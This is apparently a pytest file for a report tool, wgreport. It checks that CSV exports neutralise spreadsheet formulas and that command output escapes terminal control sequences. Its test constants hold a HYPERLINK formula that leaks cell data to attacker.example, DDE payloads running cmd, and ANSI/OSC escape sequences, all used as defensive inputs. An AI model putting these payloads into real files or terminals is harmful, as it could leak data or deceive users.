"""Outputs that cannot attack their readers: no spreadsheet formula in a published CSV,
no terminal control sequence in what a command prints (issue 35)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.conftest import copy_inputs
from wgreport.cli.main import app

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


@pytest.fixture(scope="module")
def hostile_tables(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, str]]]:
    """The data/*.csv tables of the demo edition, with formulas in Korea's text."""
    from wgreport.build.outputs import data_tables
    from wgreport.build.pipeline import compute_frames
    from wgreport.inputs.edition import load_edition_inputs

    inputs = copy_inputs(tmp_path_factory.mktemp("hostile"))
    kr = inputs / "2024" / "contributions" / "KR.yaml"
    text = kr.read_text(encoding="utf-8")
    for old, new in [
        ("title: One-stop notification of public benefits", f"title: '{HYPERLINK}'"),
        ("title: Mobile ID for public services", f'title: "{DDE}"'),
        (
            "lead_institution: Digital Platform Government Committee (디지털플랫폼정부위원회)",
            f'lead_institution: "{AT}"',
        ),
        (
            "title: Digital Platform Government Implementation Plan (디지털플랫폼정부 실현계획)",
            f'title: "{PLUS}"',
        ),
        ("note: Not comparable with the 2019 index (OECD)", f'note: "{TAB}"'),
    ]:
        assert old in text, old
        text = text.replace(old, new, 1)
    kr.write_text(text, encoding="utf-8")
    loaded = load_edition_inputs(inputs, 2024)
    assert "KR" in loaded.contributions, "the hostile contribution must still be valid"
    _, frames = compute_frames(loaded)
    return {name: _rows(data) for name, data in data_tables(frames).items()}


def test_formula_cells_in_the_data_csvs_get_a_leading_apostrophe(
    hostile_tables: dict[str, list[dict[str, str]]],
) -> None:
    titles = {r["title"] for r in hostile_tables["data/initiatives.csv"] if r["member"] == "KR"}
    assert "'" + HYPERLINK in titles and "'" + DDE in titles
    assert HYPERLINK not in titles and DDE not in titles
    governance = next(r for r in hostile_tables["data/governance.csv"] if r["member"] == "KR")
    assert governance["lead_institution"] == "'" + AT
    assert governance["strategy"] == "'" + PLUS
    notes = [r["note"] for r in hostile_tables["data/indicators.csv"] if r["member"] == "KR"]
    assert "'" + TAB in notes


def test_no_data_csv_has_a_text_cell_a_spreadsheet_would_run(
    hostile_tables: dict[str, list[dict[str, str]]],
) -> None:
    for name, rows in hostile_tables.items():
        for row in rows:
            for column, cell in row.items():
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    # Only numbers may start with a sign: they must parse as numbers.
                    assert cell[:1] in "+-", (name, column, cell)
                    float(cell)


def test_numbers_in_the_data_csvs_stay_numbers(
    hostile_tables: dict[str, list[dict[str, str]]],
) -> None:
    change = hostile_tables["data/indicator_change.csv"]
    negative = [r["change"] for r in change if r["change"].startswith("-")]
    assert negative, "the demo has members whose value went down"
    assert all(float(c) < 0 for c in negative)  # parsed as numbers, no apostrophe
    values = [r["value"] for r in hostile_tables["data/indicators.csv"] if r["value"]]
    assert values and all(isinstance(float(v), float) for v in values)
    summary = hostile_tables["data/indicator_summary.csv"]
    assert all(float(r["median"]) >= 0 for r in summary if r["median"])


def test_safe_cell_only_changes_text() -> None:
    from wgreport.csvsafe import safe_cell

    assert [safe_cell(v) for v in (HYPERLINK, DDE, AT, PLUS, MINUS, TAB, CR)] == [
        "'" + v for v in (HYPERLINK, DDE, AT, PLUS, MINUS, TAB, CR)
    ]
    assert safe_cell(-0.0167) == -0.0167 and safe_cell(-4) == -4 and safe_cell(None) is None
    assert safe_cell("Mobile ID") == "Mobile ID" and safe_cell("2024-03") == "2024-03"
    assert safe_cell("") == ""


def test_safe_frame_keeps_numbers_and_labels() -> None:
    import pandas as pd

    from wgreport.csvsafe import safe_frame

    frame = pd.DataFrame(
        {"title": [DDE, "fine", None], "change": [-0.0167, 0.02, float("nan")]},
        index=pd.Index(["=x", "b", "c"], name="id"),
    )
    out = safe_frame(frame).to_csv(lineterminator="\n", float_format="%.10g")
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [
        ["id", "title", "change"],
        ["'=x", "'" + DDE, "-0.0167"],
        ["b", "fine", "0.02"],
        ["c", "", ""],
    ]
    assert frame["title"].iloc[0] == DDE  # the frame itself is not changed


REVIEW = """\
schema: wgreport/review/v1
year: 2024
reviewer:
  id: nz-reader
  name: Jonas Sample
  organisation: "{organisation}"
comments:
  - id: 1
    draft: 1
    section: summary
    comment: "{comment}"
    proposed_change: "{change}"
    kind: editorial
    response: "{response}"
    status: rejected
"""


def _hostile_review(folder: Path, **fields: str) -> Path:
    """An edition whose reviews/ holds one review with the given (YAML-escaped) fields."""
    inputs = copy_inputs(folder)
    reviews = inputs / "2024" / "reviews"
    reviews.mkdir()
    values = {"organisation": "Office", "comment": "ok", "change": "ok", "response": "ok"}
    values.update(fields)
    (reviews / "nz-reader.yaml").write_text(REVIEW.format(**values), encoding="utf-8")
    return inputs


def _comments(inputs: Path, *extra: str) -> str:
    args = ["comments", "--year", "2024", "--inputs", str(inputs)]
    args += ["--outputs", str(inputs.parent / "outputs"), *extra]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    return result.output


def test_formula_cells_in_the_comments_csv_get_a_leading_apostrophe(tmp_path: Path) -> None:
    from wgreport.inputs.comments import comments_csv, load_reviews
    from wgreport.inputs.validation import load_working_group

    inputs = _hostile_review(
        tmp_path,
        organisation=AT,
        comment=HYPERLINK.replace('"', '\\"'),
        change=DDE,
        response=MINUS,
    )
    wg, _ = load_working_group(inputs / "working-group.yaml")
    assert wg is not None
    reviews = load_reviews(inputs / "2024", wg, 2024, {1: 60}, display_root=inputs)
    assert reviews.report.valid, reviews.report.to_dict()
    for data in (comments_csv(reviews.rows), _comments(inputs, "--format", "csv").encode()):
        (row,) = _rows(data)
        assert row["comment"] == "'" + HYPERLINK
        assert row["proposed_change"] == "'" + DDE
        assert row["organisation"] == "'" + AT
        assert row["response"] == "'" + MINUS
        assert row["draft"] == "1" and row["ref"] == "nz-reader#1"


# What the commands print. CliRunner(color=True): click must not strip the ANSI colour
# sequences itself, as it does when the output is not a terminal; a real terminal gets them.
OSC_TITLE = "\\e]0;owned\\a"  # YAML escapes: ESC ] 0 ; owned BEL (sets the window title)
CLEAR = "\\e[2J"  # clears the screen
CONTROLS = ("\x1b", "\x07", "\x9b", "\r", "\x7f")


def _invoke(*args: str) -> str:
    result = CliRunner().invoke(app, list(args), color=True)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.output


def test_printable_shows_every_control_character_as_an_escape() -> None:
    from wgreport.terminal import printable

    text = "a\x1b]0;t\x07b\x1b[2J\tc\r\nd\x00\x7f\x9b31m\u2028e é"
    assert printable(text) == "a\\x1b]0;t\\x07b\\x1b[2J\tc\\r\nd\\x00\\x7f\\x9b31m\u2028e é"
    assert printable(text, multiline=False).count("\n") == 0
    assert "\\n" in printable(text, multiline=False)
    assert (
        printable("Korea (디지털플랫폼정부위원회), 50 %") == "Korea (디지털플랫폼정부위원회), 50 %"
    )


def test_comments_command_prints_no_escape_sequence_from_a_review(tmp_path: Path) -> None:
    inputs = _hostile_review(
        tmp_path,
        organisation=f"Office{OSC_TITLE}",
        comment=f"Looks fine{OSC_TITLE}{CLEAR}\\e[31mred \\x9b31m [link=https://evil.example]x[/link]",
        change="\\e[8mhidden",
        response="line1\\nline2\\rOVERWRITE",
    )
    table = _comments(inputs)
    for control in CONTROLS:
        assert control not in table, repr(control)
    assert "Looks fine\\x1b]0;owned\\x07\\x1b[2J" in table  # shown, not run
    assert "[link=https://evil.example]x[/link]" in table  # rich markup printed as written
    assert "line2\\rOVERWRITE" in table
    as_csv = _comments(inputs, "--format", "csv")
    for control in CONTROLS:
        assert control not in as_csv, repr(control)
    assert "Looks fine\\x1b]0;owned\\x07" in as_csv


def _hostile_contribution(folder: Path) -> Path:
    inputs = copy_inputs(folder)
    kr = inputs / "2024" / "contributions" / "KR.yaml"
    text = kr.read_text(encoding="utf-8")
    old = "    theme: active-governance\n"
    assert old in text
    hostile = f'    theme: "{CLEAR}x\\e]8;;https://evil.example\\e\\\\y"\n'
    kr.write_text(text.replace(old, hostile, 1), encoding="utf-8")
    return inputs


@pytest.mark.parametrize("output_format", ["text", "github"])
def test_validate_prints_no_escape_sequence_from_a_hostile_value(
    tmp_path: Path, output_format: str
) -> None:
    inputs = _hostile_contribution(tmp_path)
    kr = inputs / "2024" / "contributions" / "KR.yaml"
    out = _invoke("validate", str(kr), "--inputs", str(inputs), "--format", output_format)
    assert "invalid-format" in out  # the value is echoed in the message...
    assert "\\x1b[2Jx\\x1b]8;;https://evil.example\\x1b\\y" in out  # ...as visible escapes
    assert "\x1b" not in out


def test_status_prints_no_escape_sequence_from_the_group_file(tmp_path: Path) -> None:
    inputs = copy_inputs(tmp_path)
    group = inputs / "working-group.yaml"
    text = group.read_text(encoding="utf-8")
    assert "name: Republic of Korea\n" in text
    group.write_text(
        text.replace("name: Republic of Korea\n", f'name: "Korea{OSC_TITLE}[blink]"\n', 1),
        encoding="utf-8",
    )
    out = _invoke("status", "--year", "2024", "--inputs", str(inputs))
    assert "KR Korea\\x1b]0;owned\\x07[blink]" in out
    assert "\x1b" not in out and "\x07" not in out


def _draft(folder: Path, digest: str, initiatives: str) -> None:
    (folder / "data").mkdir(parents=True)
    manifest = {
        "inputs": {"2024/contributions/KR.yaml": digest},
        "members_included": ["KR"],
        "members_left_out": [],
    }
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    (folder / "data" / "initiatives.csv").write_text(initiatives, encoding="utf-8")


def test_diff_and_verify_print_no_escape_sequence_from_a_draft(tmp_path: Path) -> None:
    year_dir = tmp_path / "outputs" / "2024"
    header = "member,id,title,theme,status,started,ended\n"
    _draft(year_dir / "drafts" / "001", "a", header)
    _draft(
        year_dir / "drafts" / "002",
        "b",
        header + "KR,x,New\x1b]0;owned\x07\x1b[2J title,t,planned,2024-01,\n",
    )
    out = _invoke("diff", "1", "2", "--year", "2024", "--outputs", str(tmp_path / "outputs"))
    assert "New\\x1b]0;owned\\x07\\x1b[2J title" in out
    assert "\x1b" not in out and "\x07" not in out

    folder = year_dir / "drafts" / "002"
    (folder / "SHA256SUMS").write_text(f"{'0' * 64}  evil\x1b]0;owned\x07name\n", encoding="utf-8")
    out = _invoke("verify", str(folder))
    assert "evil\\x1b]0;owned\\x07name: missing" in out
    assert "\x1b" not in out and "\x07" not in out
